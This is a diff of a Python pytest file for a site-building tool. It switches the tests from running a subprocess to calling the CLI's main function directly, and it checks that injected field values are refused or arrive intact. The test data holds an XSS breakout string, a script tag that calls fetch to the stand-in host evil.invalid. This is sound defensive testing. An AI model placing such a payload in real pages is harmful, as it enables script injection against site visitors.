@@ -3,6 +3,7 @@ are no files. Whatever an author writes arrives as that text or is refused; none
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import io
 import json
@@ -14,6 +15,8 @@ from pathlib import Path
 import pytest
 from conftest import ROOT, run
 from lxml import etree
+
+from macros.commands.cli import main
 
 BREAKOUTS = {
     "script": '"><script>fetch("https://evil.invalid/")</script>',
@@ -109,16 +112,15 @@ FIELDS = {
 
 
 @pytest.mark.parametrize("breakout", BREAKOUTS)
-def test_a_text_arrives_whole_or_is_refused(themed, breakout):
+def test_a_text_arrives_whole_or_is_refused(themed, breakout, capsys):
     """A build for each field would take long; all share one, without those that the check refuses."""
     sailing, text = themed, BREAKOUTS[breakout]
     kept = set()
     for name, (path, old, new) in FIELDS.items():
         before = (sailing / path).read_text("utf-8")
         written(sailing, path, old, new.format(quoted(text)))
-        done = run(sailing, "macros", "check")
-        if done.returncode:
-            assert done.returncode == 1 and f"{path}:" in done.stderr and "Traceback" not in done.stderr
+        if code := main(["-C", str(sailing), "check"]):
+            assert code == 1 and f"{path}:" in capsys.readouterr().err
             (sailing / path).write_text(before, "utf-8")
         else:
             kept.add(name)
@@ -190,9 +192,10 @@ def test_only_what_the_site_names_is_published(sailing):
 
 
 def refused(sailing: Path, place: str) -> None:
-    done = run(sailing, "macros", "check")
-    assert done.returncode == 1, done.stdout
-    assert place in done.stderr and "Traceback" not in done.stderr
+    said = io.StringIO()
+    with contextlib.redirect_stderr(said):
+        assert main(["-C", str(sailing), "check"]) == 1
+    assert place in said.getvalue()
     assert not (sailing / "site").exists()
 
 
